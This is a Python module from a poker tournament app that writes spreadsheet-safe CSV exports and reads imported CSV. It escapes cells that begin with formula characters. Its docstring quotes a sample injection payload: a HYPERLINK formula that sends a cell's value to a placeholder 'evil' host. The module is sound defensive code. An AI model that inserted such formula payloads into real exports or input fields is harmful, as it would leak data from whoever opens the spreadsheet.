"""CSV for spreadsheets: the one writer every CSV the product writes goes through (and the
one reader of the CSV files it takes in, :func:`csv_records`).

A base module (like :mod:`pokertd.money`): every layer may import it. A spreadsheet (Excel,
LibreOffice, Google Sheets) runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a tab or carriage return in front hides one; so a player who registers as
``=HYPERLINK("http://evil/?"&A1)`` or ``@cmd`` could run it on the cashier's computer when the
standings are opened. Every text cell that starts so is written with a leading ``'``, which
spreadsheets show as text. Numbers (``int``, and text that is a plain decimal such as
``-12.50``, the way amounts are written) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Protocol

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")


def safe_cell(value: object) -> str:
    """A CSV cell a spreadsheet shows as text, never runs.

    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("=1+2"), safe_cell("@cmd")
    ('\\'=HYPERLINK("http://x")', "'=1+2", "'@cmd")
    >>> safe_cell("Ann Lee"), safe_cell(None), safe_cell(-1250), safe_cell("-12.50")
    ('Ann Lee', '', '-1250', '-12.50')
    >>> safe_cell("-1+2"), safe_cell("\\t=1")
    ("'-1+2", "'\\t=1")
    """
    text = "" if value is None else str(value)
    if isinstance(value, int | float) or _PLAIN_NUMBER.match(text):
        return text
    return "'" + text if text.startswith(_FORMULA_START) else text


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """``header`` and ``rows`` as CSV text (``\\n`` line ends), every cell through
    :func:`safe_cell`: the one way pokertd writes a CSV.

    >>> print(csv_text(("name", "prize"), [("=1+2", "100.00"), ("@cmd", -5)]), end="")
    name,prize
    '=1+2,100.00
    '@cmd,-5
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([safe_cell(c) for c in header])
    writer.writerows([safe_cell(c) for c in row] for row in rows)
    return out.getvalue()


class CsvFormatError(ValueError):
    """A CSV text that cannot be read: ``line`` is where the reader stopped."""

    def __init__(self, line: int, reason: str) -> None:
        super().__init__(f"line {line}: {reason}")
        self.line = line
        self.reason = reason


def csv_records(text: str) -> Iterator[tuple[int, list[str]]]:
    """Each record of a CSV text and the line it starts on (the first line is 1), the
    delimiter found among ``,`` ``;`` tab and ``|`` (spreadsheets in many countries write
    ``;``); :class:`CsvFormatError` where the text is not CSV. The reading side of this
    module (an import of players, :mod:`pokertd.app.player_import`): cells come back as
    written, a leading ``'`` included.

    >>> list(csv_records('name;card\\n"Lee, Ann";7\\n'))
    [(1, ['name', 'card']), (2, ['Lee, Ann', '7'])]
    """
    try:
        dialect: type[csv.Dialect] | csv.Dialect = csv.Sniffer().sniff(
            text[:8192], delimiters=",;\t|"
        )
    except csv.Error:
        dialect = csv.excel
    reader = csv.reader(io.StringIO(text, newline=""), dialect)
    line = 1
    try:
        for record in reader:
            start, line = line, reader.line_num + 1
            yield start, record
    except csv.Error as exc:
        raise CsvFormatError(line, str(exc)) from None


class Totalled(Protocol):
    """A report of rows with a totals line, e.g. a series' cash report
    (``pokertd.app.series.SeriesCash``)."""

    @property
    def columns(self) -> Sequence[str]:
        """Every column of a row, in order (a row's attribute names)."""
        ...

    @property
    def rows(self) -> Sequence[object]:
        """The rows, each with an attribute per column."""
        ...

    @property
    def total(self) -> Mapping[str, object]:
        """The totals line, by column (columns without a total stay empty)."""
        ...


def cash_csv(report: Totalled) -> str:
    """A series' cash report as CSV: a header, one line per event, then the totals line
    (``TOTAL`` in the ``tournament`` column). Presentation, shared by the CLI's
    ``pokertd series cash --csv`` and the web's ``/api/series/{id}/cash.csv``."""
    names = list(report.columns)
    rows = [[getattr(r, n) for n in names] for r in report.rows]
    rows.append([report.total.get(n, "TOTAL" if n == "tournament" else "") for n in names])
    return csv_text(names, rows)


__all__ = ["CsvFormatError", "Totalled", "cash_csv", "csv_records", "csv_text", "safe_cell"]
